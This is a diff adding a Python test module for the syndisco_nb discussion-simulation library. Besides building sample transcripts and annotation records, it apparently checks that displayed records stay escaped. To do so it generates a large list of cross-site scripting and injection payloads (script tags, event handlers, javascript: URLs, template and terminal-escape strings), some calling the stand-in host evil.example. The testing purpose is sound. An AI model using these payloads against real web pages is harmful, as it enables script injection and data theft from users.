@@ -1,0 +1,242 @@
+"""One of everything that shows itself, and texts that try to get out of their element."""
+
+import itertools
+from dataclasses import replace
+
+from strategies import a_generation, an_annotation_set
+
+import syndisco_nb as snb
+from syndisco_nb.records import (
+    AnnotationSet,
+    ChatMessage,
+    Generation,
+    Label,
+    Message,
+    Participant,
+    Records,
+    Sampling,
+    Transcript,
+)
+from syndisco_nb.run_files import Failure, Skipped
+
+SCALES = [
+    {"type": "Likert", "name": "toxicity", "labels": ["1", "2", "3", "4", "5"], "instruction": "How toxic?"},
+    {"type": "Flag", "name": "sarcasm", "labels": ["yes", "no"], "instruction": "Sarcastic?"},
+]
+
+
+def talk(length=6, text="A comment of some length, about the topic. ", names=("Ana", "Ben", "Cem")):
+    """A discussion with prompts behind its comments, a moderator, a silence and a reply that was cut off."""
+    prompt = (ChatMessage("system", "You are someone. " * 30), ChatMessage("user", f"{text * 6}\n\nWrite."))
+    messages = []
+    for index in range(length):
+        moderated = index % 6 == 4
+        generation = Generation(
+            prompt, index, Sampling(max_tokens=40), "length" if index % 6 == 2 else "stop", 300, 40, 2.5
+        )
+        messages.append(
+            Message(
+                index,
+                index,
+                "Mo" if moderated else names[index % len(names)],
+                "" if index % 6 == 5 else text * 3,
+                "m",
+                "opening" if index == 0 else "moderator" if moderated else "participant",
+                silent=index % 6 == 5,
+                generation=generation if index else None,
+            )
+        )
+    return Transcript(
+        id="00ab",
+        index=3,
+        seed=7,
+        topic="Cars or bicycles?",
+        users=tuple(Participant(name, "user", "m", ("age: 3",), "A forum.", "Be brief.") for name in names),
+        moderator=Participant("Mo", "user", "m"),
+        settings={"num_turns": length, "turn_manager": {"type": "RespondWithProbability", "p": 0.5}},
+        comments=tuple(message for message in messages if not message.silent),
+        silences=tuple(message for message in messages if message.silent),
+    )
+
+
+def labels_of(transcript, name, values):
+    """One annotator's labels; None is an answer that holds no label."""
+    labels = []
+    for comment, value in zip(transcript.comments, itertools.cycle(values)):
+        raw = "Hard to say" if value is None else None
+        common = (comment.index, comment.name, comment.text, 0, "m", replace(a_generation(), raw=raw))
+        shares = {str(n): 0.2 for n in range(1, 6)}
+        labels.append(Label(*common, value, "toxicity", None if value is None else shares))
+        labels.append(Label(*common, value is not None and value > 2, "sarcasm"))
+    annotator = Participant(name, "annotator", "m")
+    return AnnotationSet(transcript.id, "discussion-00003", 0, 1, annotator, {"scales": SCALES}, tuple(labels))
+
+
+def everything(folder):
+    """One of each, by name."""
+    model = snb.ScriptedModel(["I agree.", "I doubt it.", ""], name="talker")
+    persona = snb.LLMPersona("Ana", age=41, sex="female", hobby="chess")
+    people = snb.People([persona, snb.LLMPersona("Ben", age=30, sex="male"), snb.LLMPersona("Cem", sex="male")])
+    users = [snb.LLMActor(model, one.username, one.to_attribute_list(), "A forum.", "Be brief.") for one in people]
+    judge = snb.LLMActor(snb.ScriptedModel(["1", "2", "?"], "judge"), "", actor_type=snb.ActorType.ANNOTATOR)
+    scale = snb.Likert("toxicity", 1, 5)
+    experiment = snb.DiscussionExperiment(["Tax", "Toll"], users, num_turns=3, num_discussions=2, seed=1)
+    rating = snb.AnnotationExperiment([judge], scale, seed=1)
+    run = experiment.begin(folder / "talks")
+    labels = rating.begin(run, folder / "labels")
+    transcript = talk()
+    sets = [labels_of(transcript, "strict", [1, 4, None]), labels_of(transcript, "mild", [1, 2])]
+    return {
+        "transcript": transcript,
+        "message": transcript.comments[1],
+        "generation": a_generation(),
+        "sampling": Sampling(),
+        "participant": transcript.users[0],
+        "annotations": sets[0],
+        "free annotations": an_annotation_set(),
+        "label": sets[0].labels[0],
+        "annotated": snb.annotated(transcript, sets),
+        "comparison": snb.compare(transcript, run[0]),
+        "persona": persona,
+        "people": people,
+        "actor": users[0],
+        "annotator": judge,
+        "model": model,
+        "turn manager": snb.RespondWithProbability(0.5),
+        "host": snb.Hosted(2, host="Ana", then=snb.Weighted({"Ben": 2})),
+        "scale": scale,
+        "discussion": snb.Discussion(users, topic="Tax", seed=1),
+        "annotation": snb.Annotation(judge, transcript, scale, seed=1),
+        "experiment": experiment,
+        "annotation experiment": rating,
+        "run": run,
+        "annotation run": labels,
+        "part of a run": run[:2],
+        "records": Records([transcript]),
+        "failure": Failure("discussion-00001", "ModelError", "out of memory", 2, 1),
+        "skipped": Skipped("notes.txt", "it is not a .json file"),
+    }
+
+
+_ACTS = ["alert(1)", "window.pwned=1", "fetch('http://evil.example/')"]
+_SHAPES = [
+    "<script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "</script><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<img src='http://evil.example/x.png' onload={}>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    "<iframe src=javascript:{}></iframe>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}></video>",
+    "<object data=javascript:{}>",
+    "<a href=javascript:{}>x</a>",
+    "<form action=javascript:{}><button>x</button></form>",
+    '" onmouseover="{}" x="',
+    "' onmouseover='{}' x='",
+    '"><script>{}</script>',
+    "'><script>{}</script>",
+    '" style="animation-name:x" onanimationstart="{}',
+    "`onerror={}`",
+    "</div></li></ol></article></details><script>{}</script>",
+    "</title><script>{}</script>",
+    "</style><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</pre></code><script>{}</script>",
+    "<!--<script>{}</script>-->",
+    "--><script>{}</script><!--",
+    "<![CDATA[<script>{}</script>]]>",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><script>{}</script>'>",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "&#x3c;script&#x3e;{}",
+    "\\u003cscript\\u003e{}",
+    "%3Cscript%3E{}",
+    "＜script＞{}",
+    "<\u0000script>{}</script>",
+    "<scr\u0000ipt>{}</script>",
+    "\u202e<script>{}</script>\u2069\u2066",
+    "\ud800<script>{}</script>",
+    "<style>@import 'http://evil.example/x.css';/*{}*/</style>",
+    "<link rel=stylesheet href='http://evil.example/x.css?{}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<base href='http://evil.example/{}'>",
+    "expression({});background:url(http://evil.example/x)",
+    "}}*{{display:none}}/*{}*/",
+    "![x](javascript:{})",
+    "[x](javascript:{})",
+    "<javascript:{}>",
+    "```\n<script>{}</script>\n```",
+    "    <script>{}</script>",
+    "> # **{}** _x_ ~~y~~ | a | b |",
+    "$\\href{{javascript:{}}}{{x}}$",
+    "$$\\unicode{{x}}{}$$ \\(x\\) \\[y\\]",
+    "{{{{constructor.constructor('{}')()}}}}",
+    "${{{}}} #{{x}} <%= x %>",
+    "\r\n\r\n<script>{}</script>",
+    "\x1b]0;{}\x07\x1b[2J",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
+    "<plaintext>{}",
+    "<select><option><script>{}</script>",
+    "<table><td><script>{}</script>",
+    "<button popovertarget=x onclick={}>x</button><div popover id=x>",
+]
+PAYLOADS = [shape.format(act) for shape in _SHAPES for act in _ACTS]
+
+
+def infected(payload):
+    """Records with a payload in every field that takes text, ready to be shown."""
+    prompt = (ChatMessage("system", payload), ChatMessage("user", payload))
+    generation = Generation(prompt, 1, Sampling(), "length", raw=payload)
+    message = Message(1, 1, payload, payload, payload, generation=generation)
+    moderator = replace(message, index=2, role="moderator", name=f"M {payload}")
+    silence = replace(message, index=3, silent=True, text="")
+    person = Participant(payload, payload, payload, (payload,), payload, payload, payload)
+    transcript = Transcript(
+        payload,
+        1,
+        1,
+        payload,
+        (person,),
+        replace(person, name=f"M {payload}"),
+        {payload: payload, "turn_manager": {"type": payload, payload: payload}},
+        (replace(message, index=0, role="opening"), message, moderator),
+        (silence,),
+    )
+    scale = {"type": payload, "name": payload, "labels": [payload], "instruction": payload}
+    label = Label(1, payload, payload, 1, payload, generation, payload, payload, {payload: 0.5})
+    annotations = AnnotationSet(
+        payload, payload, 1, 1, person, {"scales": [scale]}, (label, replace(label, value=None))
+    )
+    persona = snb.LLMPersona(" ".join(payload.split()), sex=payload, **{payload: payload})
+    model = snb.ScriptedModel("x", name=payload)
+    actor = snb.LLMActor(model, payload, [payload], payload, payload)
+    return [
+        transcript,
+        message,
+        generation,
+        person,
+        label,
+        annotations,
+        snb.annotated(transcript, annotations),
+        snb.compare(transcript, replace(transcript, topic="other")),
+        persona,
+        snb.People([persona]),
+        actor,
+        model,
+        snb.Weighted({payload: 2}),
+        snb.Choice(" ".join(payload.split()), ["a", payload.strip()], payload),
+        snb.Discussion([actor], topic=payload, seed=1),
+        snb.DiscussionExperiment([payload], [actor], num_active_users=1),
+        snb.AnnotationExperiment([snb.LLMActor(model, payload, actor_type=snb.ActorType.ANNOTATOR)]),
+        Failure(payload, payload, payload, 1, 1),
+        Skipped(payload, payload),
+        Records([transcript, annotations]),
+    ]
